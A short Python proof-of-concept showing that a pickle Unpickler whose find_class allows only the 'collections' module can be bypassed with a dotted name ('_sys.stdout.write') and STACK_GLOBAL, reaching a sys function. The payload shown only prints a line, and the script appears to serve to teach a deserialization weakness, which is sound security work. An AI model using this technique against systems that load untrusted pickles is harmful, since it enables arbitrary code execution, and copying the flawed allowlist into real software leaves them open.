"""An allowlist of modules lets a dotted name walk out."""

import io
import pickle


class ModuleAllowlist(pickle.Unpickler):
    def find_class(self, module, name):
        if module != "collections":
            raise pickle.UnpicklingError(f"{module} refused")
        print("allowed:", module, name)
        return super().find_class(module, name)


def piece(value):
    return pickle.dumps(value, protocol=2)[2:-1]


data = (
    (pickle.PROTO + b"\x04")
    + piece("collections")
    + piece("_sys.stdout.write")
    + pickle.STACK_GLOBAL
    + piece(("This is sys.stdout.write.\n",))
    + (pickle.REDUCE + pickle.STOP)
)
print(data)
ModuleAllowlist(io.BytesIO(data)).load()
